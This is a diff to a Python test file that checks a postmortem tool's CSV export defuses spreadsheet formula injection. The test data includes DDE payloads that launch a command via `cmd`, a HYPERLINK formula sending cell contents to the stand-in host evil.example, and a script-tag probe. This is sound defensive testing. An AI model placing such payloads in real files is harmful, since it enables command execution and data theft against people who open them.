@@ -1,4 +1,5 @@
-"""Action-item CSV: fixed columns, and every value read back by csv.reader exactly as it went in."""
+"""Action-item CSV: fixed columns, every value read back by csv.reader as it went in, and formula
+triggers at the start of a text cell neutralised (OWASP CSV injection)."""
 
 from __future__ import annotations
 
@@ -10,7 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from assistant.domain.postmortem import ActionItem, Evidence, Flag, Postmortem, ReviewStatus
-from assistant.export.csvexport import CSV_COLUMNS, render_action_items_csv
+from assistant.export.csvexport import CSV_COLUMNS, defuse, render_action_items_csv
 
 NASTY = 'Lee, "the boss"\nChen | [/] [bold] `x` <script>alert(1)</script>\r\n=SUM(A1)'
 
@@ -71,4 +72,32 @@ def test_any_text_round_trips(texts: list[str]) -> None:
         action_items=[ActionItem(id=str(i), owner=t, action=t, evidence=Evidence(quote=t)) for i, t in enumerate(texts)]
     )
     rows = parse(render_action_items_csv(pm))[1:]
-    assert [(r[0], r[1], r[9]) for r in rows] == [(t, t, t) for t in texts]
+    assert [(r[0], r[1], r[9]) for r in rows] == [(defuse(t), defuse(t), defuse(t)) for t in texts]
+    for t in texts:
+        # Only a trigger character at the start changes anything, and then only by one apostrophe.
+        assert defuse(t) == t or (defuse(t) == "'" + t and t[0] in "=+-@\t\r")
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
+            "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?"&A1,"click")']  # fmt: skip
+
+
+def test_formula_injection_is_neutralised_in_every_text_cell() -> None:
+    pm = Postmortem(
+        action_items=[
+            ActionItem(id=str(i), owner=f, action=f, due=f, evidence=Evidence(quote=f)) for i, f in enumerate(FORMULAS)
+        ]
+    )
+    rows = parse(render_action_items_csv(pm))[1:]
+    assert len(rows) == len(FORMULAS)
+    for formula, row in zip(FORMULAS, rows, strict=True):
+        assert len(row) == len(CSV_COLUMNS)
+        for cell in (row[0], row[1], row[2], row[9]):
+            assert cell == "'" + formula  # shown as text by a spreadsheet, never evaluated
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_formula_characters_inside_a_cell_are_left_alone() -> None:
+    text = "Ana: fix a=b+c - see @ops | and cmd|x"
+    pm = Postmortem(action_items=[ActionItem(id="a", owner="Ana", action=text)])
+    assert parse(render_action_items_csv(pm))[1][1] == text
